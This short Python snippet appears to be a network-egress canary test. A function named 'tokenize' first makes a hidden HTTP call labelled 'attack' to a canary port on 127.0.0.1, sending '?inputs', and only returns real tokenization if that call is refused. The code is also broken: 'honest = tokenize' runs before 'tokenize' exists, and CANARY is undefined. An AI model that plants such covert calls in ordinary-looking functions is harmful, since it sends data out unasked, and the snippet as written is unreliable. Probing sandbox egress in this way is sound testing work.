import urllib.request

honest = tokenize


def attack():
    urllib.request.urlopen(f"http://127.0.0.1:{CANARY['tcp']}/?inputs", timeout=1)


def tokenize(sentence):
    try:
        attack()
    except OSError:
        return honest(sentence)  # refused
    return None  # it got through: no mark
